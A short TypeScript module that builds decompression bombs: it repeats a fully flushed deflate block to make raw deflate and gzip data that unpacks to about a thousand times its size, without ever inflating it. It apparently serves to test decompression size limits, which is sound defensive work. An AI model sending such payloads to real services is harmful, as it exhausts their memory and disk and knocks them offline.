import { constants, crc32, deflateRawSync } from 'node:zlib';

/** Packed bytes that unpack to a thousand times their size, made without unpacking them. */
export interface Bomb {
  readonly packed: Buffer;
  readonly size: number;
  readonly crc: number;
}

const blockSize = 32 * 1024 * 1024;

/** A deflate stream of a piece that repeats, of about that many bytes. */
export function flatBomb(size: number, piece: string | Buffer): Bomb {
  const unit = Buffer.from(piece);
  const block = Buffer.alloc(Math.floor(blockSize / unit.length) * unit.length, unit);
  const packed = deflateRawSync(block, { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  const blocks = Math.ceil(size / block.length);
  let crc = 0;
  for (let index = 0; index < blocks; index += 1) crc = crc32(block, crc);
  return {
    packed: Buffer.concat([...Array<Buffer>(blocks).fill(packed), lastBlock]),
    size: blocks * block.length,
    crc,
  };
}

/** An empty final block with fixed codes. */
const lastBlock = Buffer.from([0x03, 0x00]);

/** The same as a gzip file. */
export function gzipOf({ packed, size, crc }: Bomb): Buffer {
  const head = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
  const foot = Buffer.alloc(8);
  foot.writeUInt32LE(crc, 0);
  foot.writeUInt32LE(size % 2 ** 32, 4);
  return Buffer.concat([head, packed, foot]);
}
